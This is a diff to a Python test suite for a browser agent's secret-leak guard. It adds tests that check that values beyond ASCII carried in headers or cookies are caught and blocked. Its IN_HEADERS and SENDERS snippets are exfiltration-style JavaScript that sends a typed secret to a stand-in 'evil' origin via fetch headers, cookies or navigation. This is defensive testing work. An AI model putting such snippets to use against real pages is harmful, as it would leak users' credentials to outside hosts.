@@ -17,7 +17,8 @@ from envs.browser.chromium import Chromium
 from envs.core.actions import Wait
 from envs.security.allowlist import Origins
 from envs.security.allowlist_proxy import AllowlistProxy
-from envs.security.secret_requests import OutgoingRequest, leaks
+from envs.security.outgoing_requests import Outgoing
+from envs.security.secret_requests import LeakCheck, OutgoingRequest, leaks
 from envs.security.secrets import NO_SECRETS, SecretVault
 from tests.envs.browser.browsing import QUICK, visit
 from tests.envs.security.spellings import PACKED, SPELLINGS
@@ -64,11 +65,34 @@ BASIC = base64.b64encode(f"me:{CANARY}".encode()).decode()
     ],
 )
 def test_addresses_and_headers_are_searched(url: str, headers: dict[str, str], part: str) -> None:
-    result = leaks(vault(), OutgoingRequest("GET", url, tuple(headers.items())))
+    request = OutgoingRequest("GET", url, tuple((name.encode(), value.encode()) for name, value in headers.items()))
+    result = leaks(vault(), request)
     assert [(leak.name, leak.part) for leak in result] == [("PW", part)]
     assert CANARY.lower() not in (result[0].message + result[0].origin).lower()
     assert "PW" in result[0].message and HOME in result[0].message
-    assert leaks(NO_SECRETS, OutgoingRequest("GET", url, tuple(headers.items()))) == ()
+    assert leaks(NO_SECRETS, request) == ()
+
+
+BEYOND_ASCII = "Käuz7-Qüarz"
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        BEYOND_ASCII.encode(),
+        BEYOND_ASCII.encode("latin-1"),
+        b"\xff" + BEYOND_ASCII.encode() + b"\xe9",
+        BEYOND_ASCII.encode().replace(b"-", b"%2D") + b" \xe9",
+        BEYOND_ASCII.encode("latin-1").replace(b"-", b"%2D") + " é".encode(),
+        base64.b64encode(BEYOND_ASCII.encode()) + b" \xe9",
+    ],
+)
+@pytest.mark.parametrize("name", ["cookie", "accept"])
+async def test_a_value_beyond_ascii_passed_in_a_header(name: str, value: bytes) -> None:
+    """A browser writes headers of `fetch` as Latin-1 and cookies as UTF-8."""
+    sent = Outgoing("GET", f"{EVIL}/", ((name.encode(), b"a=" + value), (b"x-other", b"\xe9")))
+    assert "the headers would carry secret PW" in await LeakCheck(vault(BEYOND_ASCII)).check(sent)
+    assert await LeakCheck(vault("Küken7-Qüarz")).check(sent) == "", "control: another value"
 
 
 def test_a_method_can_carry_a_value() -> None:
@@ -84,7 +108,7 @@ def test_each_secret_is_judged_by_its_own_scope() -> None:
 
 
 def test_a_request_does_not_show_what_it_holds() -> None:
-    request = OutgoingRequest("POST", f"{EVIL}/?{CANARY}", (("a", CANARY),), CANARY.encode())
+    request = OutgoingRequest("POST", f"{EVIL}/?{CANARY}", ((b"a", CANARY.encode()),), CANARY.encode())
     assert repr(request) == f"OutgoingRequest(POST {EVIL})"
 
 
@@ -102,7 +126,8 @@ class Recorder:
             def do_GET(self) -> None:
                 body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                 url = f"http://{self.headers['Host']}{self.path}"
-                kept.append(OutgoingRequest(self.command, url, tuple(self.headers.items()), body))
+                fields = tuple((name.encode(), value.encode("latin-1")) for name, value in self.headers.items())
+                kept.append(OutgoingRequest(self.command, url, fields, body))
                 arrived.set()
                 self.send_response(200)
                 self.send_header("Content-Type", "text/html; charset=utf-8")
@@ -152,6 +177,13 @@ SENDERS = {
     "navigation": "location.href = u + '?next=' + encodeURIComponent(encodeURIComponent(v + '&'))",
 }
 """Ways for a page to send `v` to the address `u`."""
+ACCEPT = "await fetch(u, {mode: 'no-cors', headers: {Accept: TEXT}})"
+IN_HEADERS = {
+    "header, Latin-1": ACCEPT.replace("TEXT", "v"),
+    "header, UTF-8": ACCEPT.replace("TEXT", "unescape(encodeURIComponent(v))"),
+    "cookie": "document.cookie = 'p=' + v; await fetch(u, {mode: 'no-cors', credentials: 'include'})",
+}
+"""Ways that send letters beyond ASCII as bytes."""
 
 
 @pytest.mark.browser
@@ -187,7 +219,14 @@ async def test_requests_that_chromium_sends_are_recognised(guarded: Chromium, tm
 
 @pytest.mark.browser
 @pytest.mark.asyncio(loop_scope="session")
-async def test_requests_that_carry_a_secret_to_another_origin_do_not_arrive(tmp_path: Path) -> None:
+@pytest.mark.parametrize(
+    ("secret", "other", "senders"),
+    [(CANARY, "Heron98-Basalts", SENDERS), (BEYOND_ASCII, "Mäuse-Bäsalt", IN_HEADERS)],
+    ids=["in every way", "beyond ASCII"],
+)
+async def test_requests_that_carry_a_secret_to_another_origin_do_not_arrive(
+    tmp_path: Path, secret: str, other: str, senders: dict[str, str]
+) -> None:
     """A page sends a value that was typed at its own origin in every way; the control with another value arrives."""
     home, evil = Recorder(), Recorder()
     servers = home.serve(), evil.serve()
@@ -195,15 +234,15 @@ async def test_requests_that_carry_a_secret_to_another_origin_do_not_arrive(tmp_
     wrong: list[str] = []
     allowed = Origins.parse([home_url, evil_url])
     async with Chromium.launch(own_tls=True) as chromium, AllowlistProxy(allowed) as proxy:
-        session = await chromium.session(QUICK, proxy, tmp_path, vault(CANARY, home_url))
-        for name, sender in SENDERS.items():
+        session = await chromium.session(QUICK, proxy, tmp_path, vault(secret, home_url))
+        for name, sender in senders.items():
             await visit(session, home_url)
             evil.requests.clear()
-            for value in (CANARY, "Heron98-Basalts"):
+            for value in (secret, other):
                 evil.arrived.clear()
                 script = f"(async()=>{{const v={json.dumps(value)},u='{evil_url}/in';let f,i,x;{sender}}})()"
                 await session.page.evaluate(f"setTimeout({json.dumps(script)})")
-                if value != CANARY:
+                if value != secret:
                     await asyncio.to_thread(evil.arrived.wait, 20)
                     continue
                 messages = ""
@@ -211,9 +250,9 @@ async def test_requests_that_carry_a_secret_to_another_origin_do_not_arrive(tmp_
                     messages += (await session.execute(Wait())).message
                     if "a request was stopped: the " in messages:
                         break
-                if "a request was stopped: the " not in messages or CANARY in messages:
+                if "a request was stopped: the " not in messages or secret in messages:
                     wrong.append(f"{name}: {messages!r}")
-            leaked = [request.url for request in evil.requests if leaks(vault(CANARY, home_url), request)]
+            leaked = [request.url for request in evil.requests if leaks(vault(secret, home_url), request)]
             if leaked or not evil.requests:
                 wrong.append(f"{name}: leaked {leaked}, arrived {len(evil.requests)}")
         await session.close()
